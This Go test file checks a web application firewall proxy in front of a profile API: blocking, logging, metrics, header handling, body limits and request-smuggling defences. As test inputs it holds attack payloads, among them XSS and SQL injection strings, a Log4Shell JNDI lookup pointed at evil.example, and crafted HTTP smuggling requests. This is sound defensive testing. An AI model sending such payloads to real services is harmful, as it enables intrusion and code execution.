package main

import (
	"bufio"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/profile-api/profile-api/config"
	"github.com/profile-api/profile-api/delivery/firewall"
	"github.com/profile-api/profile-api/delivery/rest"
	"github.com/profile-api/profile-api/delivery/rest/middleware"
	"github.com/profile-api/profile-api/internal/testlog"
)

// got is what the API behind the firewall received.
type got struct {
	*http.Request
	body string
}

// stand is a firewall over TCP in front of an API that says yes to everything.
type stand struct {
	url      string
	addr     string
	front    *httptest.Server
	proxy    *proxy
	log      *testlog.Buffer
	registry *prometheus.Registry

	mu       sync.Mutex
	received []got
}

func (s *stand) taken() []got {
	s.mu.Lock()
	defer s.mu.Unlock()
	list := s.received
	s.received = nil
	return list
}

var blocking = sync.OnceValues(func() (*firewall.Engine, error) {
	return firewall.New(firewall.Options{ParanoiaLevel: 1, AnomalyThreshold: 5, MaxBodyBytes: 65536})
})

func newStand(t *testing.T, change ...func(*config.Firewall)) *stand {
	t.Helper()
	s := &stand{log: &testlog.Buffer{}, registry: prometheus.NewRegistry()}
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		s.mu.Lock()
		s.received = append(s.received, got{r, string(body)})
		s.mu.Unlock()
		w.Header().Set("X-Request-Id", r.Header.Get("X-Request-Id"))
		w.Header().Set("Etag", `"1"`)
		w.WriteHeader(http.StatusAccepted)
		_, _ = io.WriteString(w, `{"ok":true}`)
	}))
	t.Cleanup(api.Close)
	upstream, err := url.Parse(api.URL)
	must(t, err)
	settings := &config.Firewall{Upstream: upstream, ParanoiaLevel: 1, AnomalyThreshold: 5, MaxBodyBytes: 65536, RequestTimeout: time.Minute}
	for _, c := range change {
		c(settings)
	}
	engine, err := blocking()
	if settings.DetectOnly {
		engine, err = firewall.New(firewall.Options{DetectOnly: true, ParanoiaLevel: 1, AnomalyThreshold: 5, MaxBodyBytes: 65536})
	}
	must(t, err)
	logger := slog.New(slog.NewJSONHandler(s.log, nil))
	s.proxy = newProxy(settings, engine, newMetrics(s.registry), logger)
	s.front = httptest.NewUnstartedServer(nil)
	s.front.Config = newServer(s.proxy, logger, bodyTimeout, s.proxy.longest)
	s.front.Listener = rest.ProblemListener(s.front.Listener)
	s.front.Start()
	t.Cleanup(s.front.Close)
	s.url, s.addr = s.front.URL, s.front.Listener.Addr().String()
	return s
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// eventually waits until it is so, for as long as a busy machine may need.
func eventually(t *testing.T, what string, so func() bool) {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); !so(); time.Sleep(time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("not within a minute: %s", what)
		}
	}
}

type answer struct {
	status int
	header http.Header
	body   string
}

func (s *stand) do(t *testing.T, method, path, body string, headers ...string) answer {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), method, s.url+path, strings.NewReader(body))
	must(t, err)
	if body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	if host := r.Header.Get("Host"); host != "" {
		r.Host = host
	}
	return ask(t, r)
}

func ask(t *testing.T, r *http.Request) answer {
	t.Helper()
	res, err := http.DefaultTransport.RoundTrip(r)
	must(t, err)
	defer func() { _ = res.Body.Close() }()
	text, err := io.ReadAll(res.Body)
	must(t, err)
	return answer{res.StatusCode, res.Header, string(text)}
}

// read asks for something and reads the answer to its end.
func (s *stand) read(ctx context.Context, t *testing.T) (string, error) {
	t.Helper()
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, s.url+"/v1/profiles/me", http.NoBody)
	must(t, err)
	res, err := http.DefaultTransport.RoundTrip(r)
	if err != nil {
		return "", err
	}
	defer func() { _ = res.Body.Close() }()
	text, err := io.ReadAll(res.Body)
	return string(text), err
}

// problem fails unless it is a whole problem document of the API's shape.
func (a answer) problem(t *testing.T, status int, code string) answer {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(a.body), &m); err != nil || a.status != status {
		t.Fatalf("%d %s, want a problem %d: %v", a.status, a.body, status, err)
	}
	if m["code"] != code || m["type"] != "/problems/"+code || m["status"] != float64(status) || m["title"] == "" || m["detail"] == "" || m["instance"] == "" || len(m) != 7 {
		t.Errorf("problem %v", m)
	}
	if id := a.header.Get("X-Request-Id"); id == "" || m["request_id"] != id {
		t.Errorf("request_id %v, X-Request-ID %q", m["request_id"], id)
	}
	for name, want := range map[string]string{
		"Content-Type": "application/problem+json", "Cache-Control": "no-store", "X-Content-Type-Options": "nosniff",
	} {
		if a.header.Get(name) != want {
			t.Errorf("%s is %q", name, a.header.Get(name))
		}
	}
	return a
}

func (s *stand) metric(t *testing.T, name, label string) (sum float64) {
	t.Helper()
	families, err := s.registry.Gather()
	must(t, err)
	for _, f := range families {
		for _, m := range f.GetMetric() {
			if f.GetName() == name && (label == "" || m.GetLabel()[0].GetValue() == label) {
				sum += m.GetCounter().GetValue() + float64(m.GetHistogram().GetSampleCount())
			}
		}
	}
	return sum
}

// An attack gets the API's own kind of error; nothing of it is in a log or a metric.
func TestAnAttackIsStopped(t *testing.T) {
	t.Parallel()
	s := newStand(t)
	secrets := []string{"alert", "the-token", "ada@example.com", "session-cookie", "secret-handle"}
	a := s.do(t, "PATCH", "/v1/profiles/me?note=secret-handle", `{"bio":"<script>alert(1)</script>","email":"ada@example.com"}`,
		"Authorization", "Bearer the-token", "Cookie", "__session=session-cookie", "X-Request-ID", "my-id_1").problem(t, 403, "forbidden")
	if a.header.Get("X-Request-Id") != "my-id_1" || !strings.Contains(a.body, `"instance":"/v1/profiles/me"`) {
		t.Errorf("%s", a.body)
	}
	if len(s.taken()) != 0 {
		t.Error("the API has it")
	}
	s.do(t, "GET", "/v1/profiles/secret-handle?q=%27%20OR%201=1--", "").problem(t, 403, "forbidden")
	if got := s.metric(t, "waf_stopped_total", "xss"); got != 1 {
		t.Errorf("%v of xss", got)
	}
	if s.metric(t, "waf_requests_total", "stopped") != 2 || s.metric(t, "waf_stopped_total", "sqli") != 1 || s.metric(t, "waf_inspection_duration_seconds", "") != 2 {
		t.Error("not counted")
	}
	lines := strings.Split(strings.TrimSpace(s.log.String()), "\n")
	if len(lines) != 2 {
		t.Fatalf("log %q", lines)
	}
	var entry struct {
		Msg, RequestID, Mode, Method, Route, ClientNetwork string
		Rules                                              []int
		Groups                                             []string
	}
	must(t, json.Unmarshal([]byte(strings.NewReplacer("request_id", "RequestID", "client_network", "ClientNetwork").Replace(lines[0])), &entry))
	if entry.Msg != "request stopped" || entry.RequestID != "my-id_1" || entry.Mode != "on" || entry.Method != http.MethodPatch || entry.Route != "/v1/profiles/me" ||
		entry.ClientNetwork != "127.0.0.0/24" || !slices.Contains(entry.Rules, 941100) || !slices.Equal(entry.Groups, []string{"xss"}) {
		t.Errorf("%s", lines[0])
	}
	if !strings.Contains(lines[1], `"route":"/v1/profiles/{handle}"`) {
		t.Errorf("%s", lines[1])
	}
	for _, secret := range secrets {
		if strings.Contains(s.log.String(), secret) {
			t.Errorf("the log holds %q", secret)
		}
	}
}

func TestDetectionOnlyLetsItThrough(t *testing.T) {
	t.Parallel()
	s := newStand(t, func(f *config.Firewall) { f.DetectOnly = true })
	if a := s.do(t, "PATCH", "/v1/profiles/me", `{"bio":"<script>alert(1)</script>"}`); a.status != 202 || len(s.taken()) != 1 {
		t.Errorf("%d %s", a.status, a.body)
	}
	if s.metric(t, "waf_requests_total", "detected") != 1 || s.metric(t, "waf_stopped_total", "xss") != 1 || !strings.Contains(s.log.String(), `"mode":"detection-only"`) {
		t.Errorf("not counted, or not logged: %s", s.log)
	}
}

// What passes arrives as it was sent, but for what only the proxy may say.
func TestWhatPassesArrivesWhole(t *testing.T) {
	t.Parallel()
	s := newStand(t)
	body := `{"bio":"Zoë & friends","links":[]}`
	a := s.do(t, "PATCH", "/v1/profiles/a%2Fb?x=%zz&y=1;2", body, "Authorization", "Bearer a.b.c", "If-Match", `"7"`, "X-Forwarded-For", "198.51.100.9", "X-Forwarded-Proto", "https",
		"X-Forwarded-Host", "evil.example", "Forwarded", "for=198.51.100.9", "X-Real-Ip", "198.51.100.9", "Connection", "X-Secret-Hop", "X-Secret-Hop", "1", "Traceparent", "00-1")
	if a.status != 202 || a.body != `{"ok":true}` || a.header.Get("Etag") != `"1"` {
		t.Fatalf("%d %s %v", a.status, a.body, a.header)
	}
	r := s.taken()[0]
	if r.body != body || r.ContentLength != int64(len(body)) || r.RequestURI != "/v1/profiles/a%2Fb?x=%zz&y=1;2" || r.Host != s.addr || r.Method != http.MethodPatch {
		t.Errorf("%s %s of %s, %d bytes: %s", r.Method, r.RequestURI, r.Host, r.ContentLength, r.body)
	}
	for name, want := range map[string]string{
		"Authorization": "Bearer a.b.c", "If-Match": `"7"`, "X-Forwarded-For": "127.0.0.1", "X-Forwarded-Proto": "http", "X-Forwarded-Host": "",
		"Forwarded": "", "X-Real-Ip": "", "X-Secret-Hop": "", "Traceparent": "00-1", "Content-Type": "application/json",
	} {
		if got := r.Header.Get(name); got != want || len(r.Header.Values(name)) > 1 {
			t.Errorf("%s: %q, want %q", name, r.Header.Values(name), want)
		}
	}
	if id := r.Header.Get("X-Request-Id"); id == "" || a.header.Get("X-Request-Id") != id {
		t.Errorf("ids %q and %q", id, a.header.Get("X-Request-Id"))
	}
	s.do(t, "GET", "/v1/profiles/me", "", "X-Request-Id", "not an id!")
	if id := s.taken()[0].Header.Get("X-Request-Id"); len(id) != 36 {
		t.Errorf("id %q", id)
	}
	s.do(t, "GET", "/v1/profiles/me", "", "Connection", "Upgrade", "Upgrade", "websocket")
	if r := s.taken()[0]; r.Header.Get("Upgrade") != "" || r.Header.Get("Connection") != "" {
		t.Errorf("an upgrade goes through: %v", r.Header)
	}
}

// A proxy in front is believed, and it alone; of its list, what it added.
func TestTrustedProxiesAreBelieved(t *testing.T) {
	t.Parallel()
	s := newStand(t, func(f *config.Firewall) { f.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")} })
	s.do(t, "GET", "/v1/profiles/me", "", "X-Forwarded-For", "203.0.113.1, 198.51.100.9", "X-Forwarded-Proto", "http, https")
	r := s.taken()[0]
	if r.Header.Get("X-Forwarded-For") != "198.51.100.9" || r.Header.Get("X-Forwarded-Proto") != "https" {
		t.Errorf("%v", r.Header)
	}
}

func TestProbesPass(t *testing.T) {
	t.Parallel()
	s := newStand(t)
	for _, path := range []string{"/health", "/health/ready", "/health/live"} {
		if a := s.do(t, "GET", path, "", "User-Agent", "sqlmap/1.9"); a.status != 202 {
			t.Errorf("%s: %d", path, a.status)
		}
	}
	if s.metric(t, "waf_requests_total", "health") != 3 {
		t.Error("not counted")
	}
	s.do(t, "GET", "/health?q=%3Cscript%3Ealert(1)%3C/script%3E", "").problem(t, 403, "forbidden")
	// While draining, only readiness is off, and it is so here: the API would say yes.
	s.proxy.draining.Store(true)
	if a := s.do(t, "GET", "/health/ready", "").problem(t, 503, "unavailable"); a.header.Get("Retry-After") == "" {
		t.Error("no Retry-After")
	}
	if a := s.do(t, "GET", "/v1/profiles/me", ""); a.status != 202 {
		t.Errorf("draining: %d", a.status)
	}
}

func TestBodiesHaveALimit(t *testing.T) {
	t.Parallel()
	s := newStand(t)
	full := `{"bio":"` + strings.Repeat("a", 65536-10) + `"}`
	if a := s.do(t, "PATCH", "/v1/profiles/me", full); a.status != 202 || len(s.taken()[0].body) != 65536 {
		t.Errorf("%d %s", a.status, a.body)
	}
	s.do(t, "PATCH", "/v1/profiles/me", full+" ").problem(t, 413, "payload-too-large")
	// Undeclared: chunked.
	chunked := func(path string, n int) answer {
		r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+path, io.LimitReader(neverEnding('a'), int64(n)))
		must(t, err)
		r.Header.Set("Content-Type", "application/json")
		return ask(t, r)
	}
	chunked("/v1/admin/profiles/x/suspend", 65537).problem(t, 413, "payload-too-large")
	// Clerk's deliveries.
	event := `{"type":"user.updated","data":{"first_name":"<script>alert(1)</script>","x":"`
	event += strings.Repeat("a", middleware.MaxWebhookBytes-len(event)-3) + `"}}`
	svix := []string{"Svix-Id", "msg_1", "Svix-Timestamp", "1700000000", "Svix-Signature", "v1,Zm9vYmFy v1,YmFy"}
	if a := s.do(t, "POST", "/v1/webhooks/clerk", event, svix...); a.status != 202 {
		t.Fatalf("a delivery of 1 MiB: %d %s", a.status, a.body)
	}
	list := s.taken()
	if r := list[len(list)-1]; r.body != event || r.Header.Get("Svix-Signature") != "v1,Zm9vYmFy v1,YmFy" {
		t.Error("a delivery does not arrive as it was sent")
	}
	s.do(t, "POST", "/v1/webhooks/clerk", event+" ", svix...).problem(t, 413, "payload-too-large")
	chunked("/v1/webhooks/clerk", middleware.MaxWebhookBytes+1).problem(t, 413, "payload-too-large")
	if len(s.taken()) != 0 || s.metric(t, "waf_requests_total", "too_large") != 4 {
		t.Errorf("the API has one of them, or %v counted", s.metric(t, "waf_requests_total", "too_large"))
	}
	// Its headers and query are judged all the same.
	s.do(t, "POST", "/v1/webhooks/clerk", "{}", "Svix-Id", "${jndi:ldap://evil.example/a}").problem(t, 403, "forbidden")
}

type neverEnding byte

func (b neverEnding) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(b)
	}
	return len(p), nil
}

// raw sends bytes and gives all that is answered until the connection ends.
func (s *stand) raw(t *testing.T, text string) string {
	t.Helper()
	conn, err := (&net.Dialer{}).DialContext(t.Context(), "tcp", s.addr)
	must(t, err)
	defer func() { _ = conn.Close() }()
	must(t, conn.SetDeadline(time.Now().Add(time.Minute)))
	_, err = io.WriteString(conn, text)
	must(t, err)
	all, err := io.ReadAll(conn)
	must(t, err)
	return string(all)
}

var statusLine = regexp.MustCompile(`HTTP/1\.1 \d`)

// However a request is framed, the API sees what was judged, framed anew: nothing
// can be hidden in a body and come out as a second request.
func TestNothingIsSmuggled(t *testing.T) {
	t.Parallel()
	s := newStand(t)
	const end = "Connection: close\r\n\r\n"
	hidden := "GET /v1/admin/profiles HTTP/1.1\r\nHost: x\r\n\r\n"
	for name, text := range map[string]string{
		"two lengths":         "POST /a HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 5\r\n" + end + hidden,
		"a space in the name": "POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n" + end + "0\r\n\r\n" + hidden,
		"an odd coding":       "POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n" + end + "0\r\n\r\n" + hidden,
		"two codings":         "POST /a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n" + end + "0\r\n\r\n" + hidden,
		"a folded header":     "GET /a HTTP/1.1\r\nHost: x\r\nX-A: b\r\n GET /b HTTP/1.1\r\nTransfer-Encoding:\x0bchunked\r\n" + end,
		"two hosts":           "GET /a HTTP/1.1\r\nHost: x\r\nHost: y\r\n" + end,
		"no host":             "GET /a HTTP/1.1\r\n" + end,
		"no HTTP":             "\x16\x03\x01\x00\xa5\x01\r\n\r\n",
		"large headers":       "GET /a HTTP/1.1\r\nHost: x\r\nX-A: " + strings.Repeat("a", 40<<10) + "\r\n" + end,
	} {
		if got := s.raw(t, text); !strings.HasPrefix(got, "HTTP/1.1 400 ") || !strings.Contains(got, "application/problem+json") || len(statusLine.FindAllString(got, -1)) != 1 {
			t.Errorf("%s: %q", name, got)
		}
	}
	if list := s.taken(); len(list) != 0 {
		t.Errorf("the API has %d of them", len(list))
	}
	// Both a length and chunks: net/http goes by the chunks, as RFC 9112 section 6.3 says, and so does what the API gets.
	got := s.raw(t, "PATCH /v1/profiles/me HTTP/1.1\r\nHost: api.example\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n"+end+"2\r\n{}\r\n0\r\n\r\n"+hidden)
	list := s.taken()
	if len(statusLine.FindAllString(got, -1)) != 1 || len(list) > 1 {
		t.Errorf("%q, the API has %d requests", got, len(list))
	}
	for _, r := range list {
		if r.body != "{}" || r.ContentLength != 2 || len(r.TransferEncoding) != 0 {
			t.Errorf("the API has %q, length %d, %v", r.body, r.ContentLength, r.TransferEncoding)
		}
	}
	// A body that never comes whole reaches nobody.
	conn, err := (&net.Dialer{}).DialContext(t.Context(), "tcp", s.addr)
	must(t, err)
	_, err = io.WriteString(conn, "PATCH /v1/profiles/me HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"bio\":")
	must(t, err)
	half, ok := conn.(*net.TCPConn)
	if !ok {
		t.Fatal("no TCP")
	}
	must(t, half.CloseWrite())
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	must(t, err)
	_ = res.Body.Close()
	_ = conn.Close()
	if res.StatusCode != http.StatusBadRequest || len(s.taken()) != 0 || s.metric(t, "waf_requests_total", "unread") != 1 {
		t.Errorf("half a body: %d", res.StatusCode)
	}
}
